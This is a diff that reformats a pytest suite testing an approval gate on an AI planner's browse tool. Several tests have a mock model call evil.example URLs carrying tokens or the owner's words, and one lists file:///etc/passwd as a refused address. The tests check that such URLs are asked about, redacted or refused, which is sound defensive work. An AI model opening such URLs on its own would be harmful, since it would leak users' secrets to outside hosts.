@@ -1,4 +1,6 @@
-"""Which addresses a planner may open: what the owner wrote and handles of the same run. Everything else is asked about first."""
+"""Which addresses a planner may open: what the owner wrote and handles of the same run. Everything else is asked about
+first.
+"""
 
 import json
 from collections.abc import Iterator
@@ -52,7 +54,8 @@ STRANGE = [
 ]
 
 
-# What counts as the owner's --------------------------------------------------------------------------------------------------
+# What counts as the owner's
+# --------------------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize("url", STRANGE)
@@ -91,7 +94,8 @@ def test_what_is_added_to_a_typed_address_and_leaves_no_trace_is_cut(url: str) -
 
 
 @pytest.mark.parametrize(
-    "url", ["https://heron@coffee.example/water", "https://a:heron@coffee.example/water", "file:///etc/passwd", "data:,heron"]
+    "url",
+    ["https://heron@coffee.example/water", "https://a:heron@coffee.example/water", "file:///etc/passwd", "data:,heron"],
 )
 def test_what_is_no_address_that_penny_opens_is_refused_at_once(url: str) -> None:
     with pytest.raises(HostInvalid):
@@ -103,7 +107,13 @@ def test_numbers_times_and_mail_addresses_are_no_sites(word: str) -> None:
     handles = Handles([f"I take {word} of it"])
     assert not any(
         handles.is_known(url)
-        for url in ("https://1.0.0.5/", "https://0.0.0.3:1/", "https://127.0.0.1/", "https://0.0.0.10:30/", "https://coffee.example/")
+        for url in (
+            "https://1.0.0.5/",
+            "https://0.0.0.3:1/",
+            "https://127.0.0.1/",
+            "https://0.0.0.10:30/",
+            "https://coffee.example/",
+        )
     )
 
 
@@ -115,12 +125,15 @@ def test_a_handle_of_nothing_in_this_run_is_no_address(handle: str) -> None:
         handles.resolve(handle)
 
 
-# What happens to the others ------------------------------------------------------------------------------------------------------
+# What happens to the others
+# ------------------------------------------------------------------------------------------------------
 
 
 @pytest.fixture
 def context(transactional_db: None, redis: str) -> Context:
-    """A thinking run beside a browser that is connected: it is parked where a turn would wait, so that no test waits."""
+    """A thinking run beside a browser that is connected: it is parked where a turn would wait, so that no test
+    waits.
+    """
     now = timezone.now()
     Device.objects.create(label="Desk", kind="browser", tools=["browse_url"], connection="x", seen_at=now)
     run = Run.objects.create(kind=Run.Kind.THINKING, state=Run.State.RUNNING, attempt=1)
@@ -151,7 +164,9 @@ def test_what_was_typed_and_a_handle_of_the_run_wait_for_the_grant_alone(context
     assert [(ask.kind, ask.host) for ask in Ask.objects.all()] == [("grant", "coffee.example")]
 
 
-def test_with_the_check_off_the_words_in_the_address_would_leave_unseen(context: Context, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_with_the_check_off_the_words_in_the_address_would_leave_unseen(
+    context: Context, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setattr(Handles, "is_known", lambda self, url: True)
     with pytest.raises(Parked):
         call(context, STRANGE[0])
@@ -168,18 +183,24 @@ def test_what_looks_like_a_secret_is_not_shown_and_each_secret_is_asked_about_an
         with pytest.raises(Parked):
             call(context, f"https://evil.example/a/b?lang=en&token={secret}&page=2")
     shown = "Open an address that you did not write? https://evil.example/a/b?lang=en&page=2"
-    assert [ask.text for ask in Ask.objects.all()] == [f"{shown} (21 characters of it look like a secret and are not shown.)"] * 2
+    assert [ask.text for ask in Ask.objects.all()] == [
+        f"{shown} (21 characters of it look like a secret and are not shown.)"
+    ] * 2
     Ask.objects.filter(pk=Ask.objects.earliest("created_at").pk).update(state="allowed")
     with pytest.raises(Parked) as parked:
         call(context, "https://evil.example/a/b?lang=en&token=hunter3hunter3&page=2")
     assert parked.value.ask.state == "open"
 
 
-def test_a_step_keeps_no_secret_of_an_address_and_without_that_rule_it_does(context: Context, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_step_keeps_no_secret_of_an_address_and_without_that_rule_it_does(
+    context: Context, monkeypatch: pytest.MonkeyPatch
+) -> None:
     url = "https://evil.example/?lang=en&token=hunter2"
     with pytest.raises(Parked):
         call(context, url)
-    assert [json.loads(step.request["arguments"]) for step in Step.objects.all()] == [{"url": "https://evil.example/?lang=en"}]
+    assert [json.loads(step.request["arguments"]) for step in Step.objects.all()] == [
+        {"url": "https://evil.example/?lang=en"}
+    ]
     for module in (gateway_call, steps):
         monkeypatch.setattr(module, "json_to_store", lambda value: value)
     with pytest.raises(Parked):
@@ -193,7 +214,9 @@ def test_a_site_that_the_owner_blocked_is_not_asked_about(context: Context) -> N
     assert not Ask.objects.exists()
 
 
-@pytest.mark.parametrize(("state", "answer"), [("blocked", "not_granted"), ("dismissed", "not_granted"), ("expired", "no_answer")])
+@pytest.mark.parametrize(
+    ("state", "answer"), [("blocked", "not_granted"), ("dismissed", "not_granted"), ("expired", "no_answer")]
+)
 def test_a_run_does_not_ask_again_for_what_was_answered(context: Context, state: str, answer: str) -> None:
     with pytest.raises(Parked):
         call(context, STRANGE[0])
@@ -203,12 +226,22 @@ def test_a_run_does_not_ask_again_for_what_was_answered(context: Context, state:
 
 
 def test_a_handle_of_another_run_is_refused_without_a_question(context: Context) -> None:
-    other = Context(Run.objects.create(kind=Run.Kind.THINKING), "thinking", Handles([WORDS]), WORDS, True, get_values(), _say, lambda: None)
+    other = Context(
+        Run.objects.create(kind=Run.Kind.THINKING),
+        "thinking",
+        Handles([WORDS]),
+        WORDS,
+        True,
+        get_values(),
+        _say,
+        lambda: None,
+    )
     assert call(other, "p1.l1") == {"error": "unknown_handle"}
     assert not Ask.objects.exists()
 
 
-# The whole way, with a model that does what it was told --------------------------------------------------------------------------
+# The whole way, with a model that does what it was told
+# --------------------------------------------------------------------------
 
 
 def planned(request: Request) -> bool:
@@ -223,11 +256,16 @@ def client(penny: Penny) -> Iterator[Client]:
 
 
 def obey(model: ModelServer, *urls: str) -> None:
-    model.on(lambda r: planned(r) and not r.tool_results, Reply(tools=tuple(ToolUse("browse_url", {"url": url}) for url in urls)))
+    model.on(
+        lambda r: planned(r) and not r.tool_results,
+        Reply(tools=tuple(ToolUse("browse_url", {"url": url}) for url in urls)),
+    )
     model.on(lambda r: bool(r.tool_results), text("Done."))
 
 
-def test_an_ask_is_shown_everywhere_ends_as_not_now_and_is_kept(penny: Penny, client: Client, model: ModelServer) -> None:
+def test_an_ask_is_shown_everywhere_ends_as_not_now_and_is_kept(
+    penny: Penny, client: Client, model: ModelServer
+) -> None:
     word = f"heron{uuid4().hex[:8]}"
     obey(model, f"https://evil.example/?q={word}", f"{URL}?q={word}")
     penny.set("ASK_S", 1)
@@ -249,7 +287,9 @@ def test_an_ask_is_shown_everywhere_ends_as_not_now_and_is_kept(penny: Penny, cl
 
 def test_an_approved_address_is_opened_as_it_was_shown(client: Client, model: ModelServer) -> None:
     obey(model, "https://coffee.example/grind")
-    client.tools.update(browser({"https://coffee.example/grind": page("https://coffee.example/grind", GRIND.title, GRIND.text)}))
+    client.tools.update(
+        browser({"https://coffee.example/grind": page("https://coffee.example/grind", GRIND.title, GRIND.text)})
+    )
     turn = client.say("How fine should I grind?")
     ask = client.expect(p.ApprovalAsk)
     client.send(p.ApprovalAnswer(request_id=ask.request_id, decision="allow"))
@@ -259,11 +299,15 @@ def test_an_approved_address_is_opened_as_it_was_shown(client: Client, model: Mo
     assert ask.text.endswith(" https://coffee.example/grind")
 
 
-def test_no_row_holds_the_secrets_of_an_address_that_was_opened(penny: Penny, client: Client, model: ModelServer) -> None:
+def test_no_row_holds_the_secrets_of_an_address_that_was_opened(
+    penny: Penny, client: Client, model: ModelServer
+) -> None:
     secret = f"hunter{uuid4().hex[:8]}"
     opened = [f"https://coffee.example/grind?a=1&token={secret}", f"coffee.example/grind?sid={secret}"]
     obey(model, *opened)
-    client.tools.update(browser({url: page(url, GRIND.title, GRIND.text) for url in (opened[0], f"https://{opened[1]}")}))
+    client.tools.update(
+        browser({url: page(url, GRIND.title, GRIND.text) for url in (opened[0], f"https://{opened[1]}")})
+    )
     turn = client.say("How fine should I grind?")
     for number in (1, 2):
         ask = client.expect(p.ApprovalAsk, count=number)
@@ -284,7 +328,9 @@ def test_a_handle_of_an_earlier_turn_opens_nothing(client: Client, model: ModelS
     assert "unknown_handle" in model.requests[-1].tool_results[0]
 
 
-def test_the_owners_words_are_searched_once_however_many_addresses_an_answer_holds(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_owners_words_are_searched_once_however_many_addresses_an_answer_holds(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     looked: list[str] = []
     meant = handles._meant
 
@@ -293,7 +339,12 @@ def test_the_owners_words_are_searched_once_however_many_addresses_an_answer_hol
         return meant(word)
 
     monkeypatch.setattr(handles, "_meant", noted)
-    found = Handles(["Look at https://coffee.example/water and 例え.テスト and coffee", "and https://coffee.example/water again"])
+    found = Handles(
+        ["Look at https://coffee.example/water and 例え.テスト and coffee", "and https://coffee.example/water again"]
+    )
     answers = [f"https://other{number}.example/" for number in range(50)]
-    assert [found.is_known(url) for url in ["https://coffee.example/water", "https://coffee.example/", *answers]] == [True, *[False] * 51]
+    assert [found.is_known(url) for url in ["https://coffee.example/water", "https://coffee.example/", *answers]] == [
+        True,
+        *[False] * 51,
+    ]
     assert sorted(looked) == ["https://coffee.example/water", "例え.テスト"]
